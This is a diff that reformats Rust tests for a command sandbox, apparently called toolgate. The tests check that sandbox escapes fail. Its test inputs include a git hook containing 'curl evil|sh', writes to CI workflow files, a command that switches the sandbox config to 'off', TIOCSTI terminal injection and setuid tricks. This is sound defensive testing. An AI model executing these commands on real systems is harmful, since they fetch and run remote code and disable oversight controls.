@@ -23,7 +23,11 @@ fn write_outside_the_location_directly() {
     let f = Fixture::new();
     let out = f.run("echo pwned > \"$OUT/direct\"");
     assert!(!out.status.success());
-    assert!(stderr(&out).contains("Read-only file system"), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("Read-only file system"),
+        "{}",
+        stderr(&out)
+    );
     assert!(!f.outside.join("direct").exists());
 }
 
@@ -84,11 +88,15 @@ fn write_git_hooks() {
 fn write_git_hooks_when_the_hooks_directory_is_missing() {
     let f = Fixture::new();
     f.write(".git/HEAD", "ref: refs/heads/main\n");
-    let out =
-        f.run("mkdir -p \"$WS/.git/hooks\" && echo 'curl evil|sh' > \"$WS/.git/hooks/post-checkout\"");
+    let out = f.run(
+        "mkdir -p \"$WS/.git/hooks\" && echo 'curl evil|sh' > \"$WS/.git/hooks/post-checkout\"",
+    );
     assert!(!out.status.success());
     assert!(!f.ws.join(".git/hooks/post-checkout").exists());
-    assert!(!f.ws.join(".git/hooks").exists(), "the placeholder is removed after the run");
+    assert!(
+        !f.ws.join(".git/hooks").exists(),
+        "the placeholder is removed after the run"
+    );
 }
 
 #[test]
@@ -108,9 +116,8 @@ fn write_git_config() {
 fn write_toolgate_config() {
     let f = Fixture::new();
     // Missing: the command may not create it.
-    let out = f.run(
-        "mkdir -p \"$WS/.toolgate\" && echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"",
-    );
+    let out = f
+        .run("mkdir -p \"$WS/.toolgate\" && echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"");
     assert!(!out.status.success());
     assert!(!f.ws.join(".toolgate").exists());
     // Present: the command may not change it, nor move it away.
@@ -141,12 +148,21 @@ fn other_protected_paths_are_read_only() {
         ".github/workflows/ci.yml",
         ".gitlab-ci.yml",
     ] {
-        let out = f.run(&format!("mkdir -p \"$(dirname \"$WS/{rel}\")\"; echo evil > \"$WS/{rel}\""));
+        let out = f.run(&format!(
+            "mkdir -p \"$(dirname \"$WS/{rel}\")\"; echo evil > \"$WS/{rel}\""
+        ));
         assert!(!out.status.success(), "{rel}");
         assert!(!f.ws.join(rel).exists(), "{rel}");
     }
-    let leftovers: Vec<_> = std::fs::read_dir(&f.ws).unwrap().flatten().map(|e| e.file_name()).collect();
-    assert!(leftovers.is_empty(), "placeholders left behind: {leftovers:?}");
+    let leftovers: Vec<_> = std::fs::read_dir(&f.ws)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name())
+        .collect();
+    assert!(
+        leftovers.is_empty(),
+        "placeholders left behind: {leftovers:?}"
+    );
 }
 
 #[test]
@@ -224,10 +240,18 @@ fn resolve_a_name() {
 fn signal_the_parent() {
     let f = Fixture::new();
     let me = std::process::id();
-    let out = f.run(&format!("kill -0 {me} && echo reached; kill -0 $PPID 2>&1; ps -e -o pid= | wc -l"));
+    let out = f.run(&format!(
+        "kill -0 {me} && echo reached; kill -0 $PPID 2>&1; ps -e -o pid= | wc -l"
+    ));
     assert!(!stdout(&out).contains("reached"));
     // Only the sandbox's own processes are there to see.
-    let count: usize = stdout(&out).lines().last().unwrap_or("0").trim().parse().unwrap_or(99);
+    let count: usize = stdout(&out)
+        .lines()
+        .last()
+        .unwrap_or("0")
+        .trim()
+        .parse()
+        .unwrap_or(99);
     assert!(count <= 5, "sees {count} processes");
 }
 
@@ -279,8 +303,15 @@ fn tiocsti_terminal_injection() {
         .output()
         .unwrap();
     let out = f.run(&format!("/usr/bin/python3 -c \"{script}\""));
-    assert!(stdout(&out).contains("refused Operation not permitted"), "{}", stdout(&out));
-    eprintln!("outside the sandbox: {}", String::from_utf8_lossy(&control.stdout));
+    assert!(
+        stdout(&out).contains("refused Operation not permitted"),
+        "{}",
+        stdout(&out)
+    );
+    eprintln!(
+        "outside the sandbox: {}",
+        String::from_utf8_lossy(&control.stdout)
+    );
 }
 
 #[test]
@@ -310,7 +341,11 @@ fn a_setuid_binary_gains_nothing() {
         std::fs::copy("/bin/cat", &cat).unwrap();
         std::fs::set_permissions(&cat, std::fs::Permissions::from_mode(0o4755)).unwrap();
         let out = f.run("\"$WS/suid-cat\" /proc/self/status | grep -E '^CapEff'");
-        assert!(stdout(&out).contains("CapEff:\t0000000000000000"), "{}", stdout(&out));
+        assert!(
+            stdout(&out).contains("CapEff:\t0000000000000000"),
+            "{}",
+            stdout(&out)
+        );
     }
 }
 
